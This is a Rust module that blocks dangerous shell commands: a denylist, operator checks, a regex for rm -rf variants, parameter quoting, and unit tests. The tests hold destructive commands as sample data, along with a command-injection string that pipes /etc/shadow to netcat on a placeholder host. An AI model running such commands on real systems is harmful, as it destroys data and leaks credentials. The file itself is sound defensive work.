//! Parameter sanitizing and command safety checks

use regex::Regex;
use serde::{Deserialize, Serialize};
use std::sync::OnceLock;

/// Substrings that are never allowed anywhere in a command (compared lowercased)
pub const DENYLIST: &[&str] = &[
    "rm -rf",
    "dd if=",
    "mkfs",
    "fdisk",
    "parted",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "passwd",
    "userdel",
    "groupdel",
    "chown -r",
];

/// Shell control operators that are never allowed
pub const DANGEROUS_OPERATORS: &[&str] = &["&&", "||", ";", "|", ">>", ">", "<", "`", "$("];

const STRIPPED_CHARS: &[char] = &[';', '&', '|', '`', '$', '(', ')', '{', '}', '[', ']', '<', '>'];

pub const DEFAULT_MAX_LENGTH: usize = 500;

/// `rm` with both recursive and force flags, combined or split, in either order
fn recursive_force_rm_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"\brm\s+(?:-\S*\s+)*?(?:-[a-z]*r[a-z]*f[a-z]*|-[a-z]*f[a-z]*r[a-z]*|(?:-[a-z]*r[a-z]*|--recursive)\s+(?:-\S*\s+)*?(?:-[a-z]*f[a-z]*|--force)|(?:-[a-z]*f[a-z]*|--force)\s+(?:-\S*\s+)*?(?:-[a-z]*r[a-z]*|--recursive))(?:\s|$)",
        )
        .expect("rm regex is valid")
    })
}

/// Lowercase and collapse runs of whitespace to one space
fn normalize(s: &str) -> String {
    s.to_lowercase().split_whitespace().collect::<Vec<_>>().join(" ")
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error, Serialize, Deserialize)]
#[serde(tag = "reason", rename_all = "snake_case")]
pub enum SafetyViolation {
    #[error("command is empty")]
    Empty,
    #[error("contains denylisted pattern `{pattern}`")]
    Denylisted { pattern: String },
    #[error("contains dangerous operator `{operator}`")]
    DangerousOperator { operator: String },
    #[error("command is {len} chars, limit is {max}")]
    TooLong { len: usize, max: usize },
}

#[derive(Debug, Clone)]
pub struct SafetyChecker {
    denylist: Vec<String>,
    max_length: usize,
}

impl Default for SafetyChecker {
    fn default() -> Self {
        Self::new(DEFAULT_MAX_LENGTH)
    }
}

impl SafetyChecker {
    pub fn new(max_length: usize) -> Self {
        Self {
            denylist: DENYLIST.iter().map(|s| s.to_string()).collect(),
            max_length,
        }
    }

    /// Add organisation-specific patterns on top of the built-in denylist
    pub fn with_extra_denied<I, S>(mut self, patterns: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        for p in patterns {
            let p = normalize(&p.into());
            if !p.is_empty() && !self.denylist.contains(&p) {
                self.denylist.push(p);
            }
        }
        self
    }

    pub fn max_length(&self) -> usize {
        self.max_length
    }

    pub fn check(&self, command: &str) -> Result<(), SafetyViolation> {
        if command.trim().is_empty() {
            return Err(SafetyViolation::Empty);
        }

        let lowered = normalize(command);
        if recursive_force_rm_re().is_match(&lowered) {
            return Err(SafetyViolation::Denylisted {
                pattern: "rm -rf".to_string(),
            });
        }
        if let Some(pattern) = self.denylist.iter().find(|p| lowered.contains(p.as_str())) {
            return Err(SafetyViolation::Denylisted {
                pattern: pattern.clone(),
            });
        }

        if let Some(op) = DANGEROUS_OPERATORS.iter().find(|op| command.contains(*op)) {
            return Err(SafetyViolation::DangerousOperator {
                operator: op.to_string(),
            });
        }

        let len = command.chars().count();
        if len > self.max_length {
            return Err(SafetyViolation::TooLong {
                len,
                max: self.max_length,
            });
        }

        Ok(())
    }

    pub fn is_safe(&self, command: &str) -> bool {
        self.check(command).is_ok()
    }
}

/// Strip shell metacharacters and control characters, then shell-quote
pub fn sanitize_param(value: &str) -> String {
    let stripped: String = value
        .chars()
        .filter(|c| !STRIPPED_CHARS.contains(c) && !c.is_control())
        .collect();
    shell_quote(&stripped)
}

/// POSIX single-quote a word unless it only contains safe characters
pub fn shell_quote(s: &str) -> String {
    if s.is_empty() {
        return "''".to_string();
    }
    let safe = s
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./-_".contains(c));
    if safe {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', r#"'"'"'"#))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_denylist_case_insensitive() {
        let checker = SafetyChecker::default();
        assert!(matches!(
            checker.check("RM -RF /tmp/x"),
            Err(SafetyViolation::Denylisted { .. })
        ));
        assert!(matches!(
            checker.check("chown -R nobody /etc"),
            Err(SafetyViolation::Denylisted { .. })
        ));
        assert!(checker.check("kill -9 1234").is_ok());
    }

    #[test]
    fn test_recursive_force_rm_any_spelling() {
        let checker = SafetyChecker::default();
        for cmd in [
            "rm -fr /var/lib",
            "rm  -rf /etc",
            "rm -r -f /home",
            "rm -f -r /home",
            "rm -Rf /srv",
            "rm -v -r -i -f /opt",
            "rm --recursive --force /",
            "rm --force -r /data",
            "sudo\trm\t-rf /",
        ] {
            assert!(
                matches!(checker.check(cmd), Err(SafetyViolation::Denylisted { .. })),
                "{} should be rejected",
                cmd
            );
        }
        assert!(checker.is_safe("rm -f /tmp/payload.quarantine"));
        assert!(checker.is_safe("rm -r /tmp/extracted"));
        assert!(checker.is_safe("ls /var/lib/rpm -rf"));
        assert!(!checker.is_safe("mkfs  .ext4 /dev/sdb"));
        assert!(!checker.is_safe("chown  -R nobody /etc"));
    }

    #[test]
    fn test_dangerous_operators() {
        let checker = SafetyChecker::default();
        for cmd in [
            "ls && id",
            "ls || id",
            "ls; id",
            "ls | grep x",
            "echo x > /etc/hosts",
            "cat < /etc/hosts",
            "echo `id`",
            "echo $(id)",
        ] {
            assert!(
                matches!(checker.check(cmd), Err(SafetyViolation::DangerousOperator { .. })),
                "{} should be rejected",
                cmd
            );
        }
    }

    #[test]
    fn test_length_limit() {
        let checker = SafetyChecker::new(10);
        assert!(checker.check("echo 12345").is_ok());
        assert_eq!(
            checker.check("echo 123456"),
            Err(SafetyViolation::TooLong { len: 11, max: 10 })
        );
        assert_eq!(checker.check("   "), Err(SafetyViolation::Empty));
    }

    #[test]
    fn test_extra_denied() {
        let checker = SafetyChecker::default().with_extra_denied(["Crontab -r"]);
        assert!(!checker.is_safe("crontab -r"));
    }

    #[test]
    fn test_sanitize_strips_and_quotes() {
        assert_eq!(sanitize_param("1234"), "1234");
        assert_eq!(sanitize_param("/tmp/evil;rm"), "/tmp/evilrm");
        assert_eq!(sanitize_param("$(id)"), "id");
        assert_eq!(sanitize_param("my file"), "'my file'");
        assert_eq!(sanitize_param("it's"), r#"'it'"'"'s'"#);
        assert_eq!(sanitize_param(""), "''");
        assert_eq!(sanitize_param("a\nb"), "ab");
    }

    #[test]
    fn test_sanitized_param_passes_checker() {
        let checker = SafetyChecker::default();
        let nasty = "x`id`; cat /etc/shadow | nc evil 1 && $(whoami) > /tmp/o";
        let cmd = format!("kill -9 {}", sanitize_param(nasty));
        assert!(checker.is_safe(&cmd), "{}", cmd);
    }
}
